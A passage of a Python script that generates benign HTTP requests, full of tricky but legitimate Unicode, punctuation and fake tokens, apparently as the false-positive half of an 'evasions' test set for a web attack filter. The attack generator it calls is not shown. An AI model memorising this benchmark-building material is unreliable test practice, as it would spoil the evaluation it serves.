EMAILS = ["jose.nunez@example.com", "anna+shop@example.org", "o'brien@example.ie", "first.last@sub.example.co.uk", "jörg@example.de"]
PHONES = ["+1 (555) 013-4477", "+44 20 7946 0958", "030 901820", "+81-3-1234-5678", "(02) 9876 5432", "555-0134 ext. 12"]
ADDRS = ["Apt #4; Floor 2, 12 Baker St.", "Calle de Alcalá 42, 3º izq.", "1-2-3 Shibuya, Shibuya-ku, Tokyo 150-0002",
         "Rue de l'Église 7", "PO Box 77 / Unit 5", "Hauptstraße 5 (Hinterhaus)"]
NOTES = ["I'd like 2-3 items; thanks!", "Price < $50 & delivery > 3 days is fine", "Leave at the door -- dog is friendly",
         "Gift wrap please (no price tag)", "Between 9:00–17:00 only", "Call me if needed, or text 😊", "N/A"]
SKUS = ["AB-12/34", "CD-99/01", "ZX-900/11-B", "EF-07/22", "Q-1/2\"-CU"]
PATHS = [("/wiki/{}", ["Café_au_lait", "Zürich", "C++", "Mötley_Crüe"]), ("/products/{}", SKUS),
         ("/users/{}/profile", ["josé", "anna.k", "o'brien"]), ("/blog/2024/05/{}", ["c-sharp-vs-c++", "50%-off-sale", "été-2024"]),
         ("/search/{}", ["東京 ホテル", '"red dress"', "AB-12/34"]), ("/files/{}", ["Q3 report (final).pdf", "résumé_2024.docx"])]


def pick(pool):
    return rng.choice(pool)


def b64blob(data_uri=False):
    b = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(rng.randrange(256) for _ in range(rng.randint(48, 180)))).decode()
    return "data:image/png;base64," + b if data_uri else b


def uuid():
    return "%08x-%04x-4%03x-%04x-%012x" % tuple(rng.getrandbits(b) for b in (32, 16, 12, 16, 48))


def jwt():
    seg = lambda o: base64.urlsafe_b64encode(json.dumps(o).encode()).decode().rstrip("=")
    return seg({"alg": "HS256", "typ": "JWT"}) + "." + seg({"sub": uuid(), "iat": 1714567890}) + "." + tok(43)


def benign_kind(kind):
    """Return (location, path, fields) for one benign request of `kind`."""
    if kind == "search":
        f = {"q": pick(SEARCH), "page": rng.randint(1, 9), "sort": pick(["relevance", "price_asc", "newest"])}
        if rng.random() < 0.3:
            f["filters"] = "color:red;size:M;brand:acme"
        return pick(["query", "query", "query", "json", "form"]), pick(["/search", "/catalog/search", "/api/search"]), f
    if kind == "cms":
        c = pick(RICH) if rng.random() < 0.65 else pick(MD)
        if c.startswith("<") and rng.random() < 0.3:
            c = html.escape(c)                  # editors that store escaped HTML
        f = {"title": pick(SEARCH).title(), "content": c, "slug": "post-%d" % rng.randint(100, 999), "status": "draft"}
        loc = pick(["form", "form", "json"])
        return loc, "/admin/posts/%d/edit" % rng.randint(1, 500), ({"post": f} if loc == "json" else f)
    if kind == "api-json":
        f = pick([
            lambda: {"user": {"display_name": pick(NAMES), "bio": pick(BIOS), "locale": "pt-BR"}, "avatar": b64blob(rng.random() < 0.5)},
            lambda: {"items": [{"sku": pick(SKUS), "qty": rng.randint(1, 5)}], "coupon": "SPRING-24", "note": pick(NOTES)},
            lambda: {"event": "page_view", "props": {"url": "https://shop.example/p/AB-12/34?ref=home", "referrer": pick(URLS)}, "client_id": uuid()},
            lambda: {"client": {"id": uuid(), "secret": tok(48)}, "grant_type": "refresh_token", "refresh_token": jwt()},
            lambda: {"expression": "price > 10 && stock < 5", "label": "Low stock ⚠️", "tags": ["été", "naïve", "😀"]},
            lambda: {"attachments": [{"name": "scan.png", "data": b64blob()}], "checksum": "%064x" % rng.getrandbits(256)},
        ])()
        if rng.random() < 0.25:
            return "query", "/api/v2/products", {"filter": {"category": "shoes", "price": {"lt": rng.randint(50, 200)}},
                                                 "fields": "id,name,price", "page": {"size": 20}, "q": pick(SEARCH)}
        return "json", pick(["/api/v2/profile", "/api/v2/cart", "/api/v2/events", "/oauth/token"]), f
    if kind == "forms":
        f = {"csrf_token": tok(), "full_name": pick(NAMES), "email": pick(EMAILS), "phone": pick(PHONES),
             "address": pick(ADDRS), "comment": pick(NOTES), "newsletter": "on"}
        return pick(["form", "form", "form", "json", "query"]), pick(["/account/register", "/checkout/address", "/contact"]), f
    if kind == "support":
        f = {"subject": pick(["Order problem", "Login issue", "Bug report", "Frage zur Rechnung", "返品について"]),
             "body": pick(SUPPORT), "order": pick(["A-1042/7", "88-2231", "JP-2024-0519", ""]), "priority": pick(["low", "normal", "high"])}
        loc = pick(["form", "form", "json"])
        return loc, "/support/tickets", ({"ticket": f} if loc == "json" else dict(f, csrf_token=tok()))
    if kind == "settings":
        f = pick([lambda: {"schedule": pick(CRON), "timezone": pick(["Europe/Berlin", "America/Sao_Paulo", "Asia/Kolkata"])},
                  lambda: {"validation_regex": pick(REGEX), "field": pick(["sku", "phone", "email", "zip"])},
                  lambda: {"custom_css": pick(CSS), "theme": "light"},
                  lambda: {"list": pick(LISTS), "separator": ";"},
                  lambda: {"webhook_url": pick(URLS), "secret": tok(40)},
                  lambda: {"email_template": pick(TEMPLATES), "locale": "en-GB"}])()
        return pick(["form", "form", "json", "cookie"]), "/settings/" + pick(["notifications", "store", "integrations", "appearance"]), f
    if kind == "session":
        f = {"sid": tok(), "consent": "necessary:true|analytics:false|ads:false", "_ga": "GA1.2.%d.%d" % (rng.getrandbits(31), 1714567890)}
        f.update(rng.sample([("cart", "AB-12/34:2|CD-99/01:1"), ("prefs", json.dumps({"theme": "dark", "lang": "pt-BR", "cur": "EUR"})),
                             ("recent", "café;Ноутбук;AB-12/34"), ("last_search", pick(SEARCH)), ("jwt", jwt()),
                             ("return_to", "https://shop.example/account/orders?page=2")], 2))
        return "cookie", pick(["/", "/account", "/cart"]), f
    if kind == "browse":
        tpl, vals = pick(PATHS)
        f = {"v": pick(vals)}
        if rng.random() < 0.4:
            f["ref"] = pick(["home", "newsletter", "https://www.google.com/"])
        return "path", tpl, f


BENIGN_PLAN = [("search", 50), ("cms", 45), ("api-json", 50), ("forms", 45), ("support", 40), ("settings", 40),
               ("session", 15), ("browse", 20)]


def benign_requests():
    out = []
    for kind, count in BENIGN_PLAN:
        for n in range(1, count + 1):
            loc, path, fields = benign_kind(kind)
            out.append(request("heldout2", kind, n, "pass", loc, path, fields))
    return out


def write(name, rows):
    with open(os.path.join(OUT, name), "w", encoding="utf-8") as fh:
        for r in rows:
            fh.write(json.dumps(r, ensure_ascii=False) + "\n")
    c = Counter((r["category"], r["location"]) for r in rows)
    print(f"{name}: {len(rows)} requests")
    for cat in dict.fromkeys(r["category"] for r in rows):
        locs = ", ".join(f"{l}={c[(cat, l)]}" for l in ("query", "form", "json", "cookie", "path") if c[(cat, l)])
        print(f"  {cat:9s} {sum(v for (k, _), v in c.items() if k == cat):4d}  ({locs})")


if __name__ == "__main__":
    write("evasions-attacks.jsonl", attack_requests())
    write("evasions-benign.jsonl", benign_requests())
